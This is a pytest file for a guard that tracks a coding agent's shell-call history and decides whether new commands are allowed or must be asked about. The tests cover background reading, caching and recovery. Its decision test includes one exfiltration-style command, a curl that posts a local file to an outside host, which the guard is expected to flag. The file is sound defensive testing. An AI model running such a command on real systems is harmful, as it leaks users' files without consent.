from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tallystick.guard import family_states as module
from tallystick.guard.family_states import FamilyStates
from tallystick.guard.session_families import SessionFamilies
from tallystick.guard.snapshots import Snapshots
from tallystick.journal.kept_states import forget_states
from tallystick.model.decision import Call, Effect
from tallystick.state.effects import CallEffects
from tallystick.state.reducer import Knowledge
from tests.guard.test_family_reader import read
from tests.support.working import AGENT, Work

FAMILY = (AGENT, "now")


@pytest.fixture
def work(tmp_path: Path) -> Iterator[Work]:
    with Work(tmp_path) as work:
        yield work


class Reading:
    """Reads calls, counts them, and waits where it is told to."""

    def __init__(self) -> None:
        self.calls = 0
        self.may_go_on = threading.Event()
        self.may_go_on.set()

    def __call__(self, call: Call) -> CallEffects:
        self.calls += 1
        if threading.current_thread() is not threading.main_thread():
            assert self.may_go_on.wait(60)
        return read(call)


def new(work: Work, reading: Reading | None = None) -> FamilyStates:
    families = SessionFamilies(work.home, lambda: None)
    known = Knowledge(read=reading or Reading())
    families.family(AGENT, "now")
    return FamilyStates(work.home, families, lambda _: known, Snapshots(work.home, lambda: "r"), threading.RLock())


def some_calls(work: Work, count: int = 6) -> None:
    work.is_indexed = False
    for number in range(count):
        work.call("Bash", {"command": f"echo {number} > /p/{number}"}, is_judged=False)


def wait_until_read(states: FamilyStates) -> None:
    until = time.monotonic() + 60
    while not states.is_read(FAMILY):
        assert time.monotonic() < until
        time.sleep(0.002)


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A call that waits for two steps, and keeps what is worth a step."""
    monkeypatch.setattr(module, "_PATIENCE_S", 0.0)
    monkeypatch.setattr(module, "_SLICE_S", 0.0)
    monkeypatch.setattr(module, "_AT_LEAST", 2)
    monkeypatch.setattr(module, "_WORTH_STEPS", 1)


@pytest.mark.usefixtures("impatient")
def test_a_long_history_is_read_beside_answering(work: Work) -> None:
    some_calls(work)
    reading = Reading()
    reading.may_go_on.clear()
    states = new(work, reading)
    state, is_whole = states.standing(FAMILY)
    assert not is_whole
    assert state.calls < 6
    assert not states.standing(FAMILY).is_whole
    assert states.change(FAMILY, lambda _: state) is state
    reading.may_go_on.set()
    wait_until_read(states)
    state, is_whole = states.standing(FAMILY)
    assert (state.calls, is_whole, reading.calls) == (6, True, 6)


@pytest.mark.usefixtures("impatient")
def test_a_history_that_was_kept_is_not_judged_again(work: Work) -> None:
    some_calls(work)
    states = new(work)
    states.standing(FAMILY)
    wait_until_read(states)
    due = [states.is_due]
    states.keep()
    assert [*due, states.is_due] == [True, False]
    some_calls(work, 1)
    reading = Reading()
    again = new(work, reading)
    state, is_whole = again.standing(FAMILY)
    assert (state.calls, is_whole, reading.calls) == (7, True, 1)
    wait_until_read(states)
    assert state == states.standing(FAMILY).state


@pytest.mark.usefixtures("impatient")
def test_at_the_end_what_is_new_is_kept(work: Work) -> None:
    some_calls(work)
    states = new(work)
    states.standing(FAMILY)
    wait_until_read(states)
    states.keep()
    some_calls(work, 1)
    states.standing(FAMILY)
    assert not states.is_due
    states.close()
    reading = Reading()
    assert new(work, reading).standing(FAMILY).state.calls == 7
    assert reading.calls == 0


@pytest.mark.usefixtures("impatient")
def test_what_leaves_memory_is_kept_in_the_next_quiet_moment(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "_MOST_FAMILIES", 1)
    some_calls(work)
    reading = Reading()
    states = new(work, reading)
    states.standing(FAMILY)
    wait_until_read(states)
    states.standing((AGENT, "other"))
    assert not states.is_read(FAMILY)
    states.keep()
    assert reading.calls == 6
    assert states.standing(FAMILY).state.calls == 6
    assert reading.calls == 6


@pytest.mark.usefixtures("impatient")
def test_after_an_erasure_all_is_made_again(work: Work) -> None:
    some_calls(work, 1)
    reading = Reading()
    states = new(work, reading)
    states.standing(FAMILY)
    wait_until_read(states)
    states.keep()
    forget_states(work.home, "1")
    states.standing(FAMILY)
    wait_until_read(states)
    assert states.standing(FAMILY).state.calls == 1
    assert reading.calls == 2


@pytest.mark.usefixtures("impatient")
def test_a_history_that_cannot_be_read_is_begun_again_by_the_next_call(work: Work) -> None:
    some_calls(work)
    reading = Reading()
    families = SessionFamilies(work.home, lambda: None)
    families.family(AGENT, "now")
    asked = iter(range(100))

    def failing(call: Call) -> CallEffects:
        if next(asked) == 3:
            raise RuntimeError("no one has thought of this")
        return reading(call)

    states = FamilyStates(
        work.home,
        families,
        lambda _: Knowledge(read=failing),
        Snapshots(work.home, lambda: "r"),
        threading.RLock(),
    )
    assert not states.standing(FAMILY).is_whole
    until = time.monotonic() + 60
    while (standing := states.standing(FAMILY)).state.calls < 6 or not standing.is_whole:
        assert time.monotonic() < until
        time.sleep(0.002)


# Decisions ------------------------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("impatient")
def test_while_a_history_is_read_what_is_risky_is_asked_about_and_a_plain_read_is_not(
    work: Work, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing in it speaks against any of these, as is known once all of it is read."""
    work.write("run.sh", "#!/bin/sh\necho hello\n")
    some_calls(work, 30)
    work.restart()
    go_on = threading.Event()
    recorded = work.decider._recorded

    def waits(call: Call) -> CallEffects:
        if threading.current_thread() is not threading.main_thread():
            assert go_on.wait(60)
        return recorded(call)

    states = work.decider._record.states
    monkeypatch.setattr(states, "_known", lambda _: Knowledge(read=waits))
    asked = {
        "git status": Effect.ALLOW,
        "ls -la": Effect.ALLOW,
        "cat run.sh": Effect.ALLOW,
        "sh run.sh": Effect.ASK,
        "curl -d @notes.txt https://example.org/": Effect.ASK,
    }
    assert {command: work.run(command).effect for command in asked} == asked
    assert "still being read" in work.run("sh run.sh").reason
    go_on.set()
    wait_until_read(states)
    assert {work.run(command).effect for command in list(asked)[:4]} == {Effect.ALLOW}


@pytest.mark.usefixtures("impatient")
def test_a_part_that_was_read_is_kept_and_not_read_again(work: Work, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "_AT_LEAST", 6)
    some_calls(work)
    reading = Reading()
    reading.may_go_on.clear()
    states = new(work, reading)
    assert not states.standing(FAMILY).is_whole
    states.close()
    reading.may_go_on.set()
    again = Reading()
    later = new(work, again)
    later.standing(FAMILY)
    wait_until_read(later)
    assert later.standing(FAMILY).state.calls == 6
    assert again.calls < 6
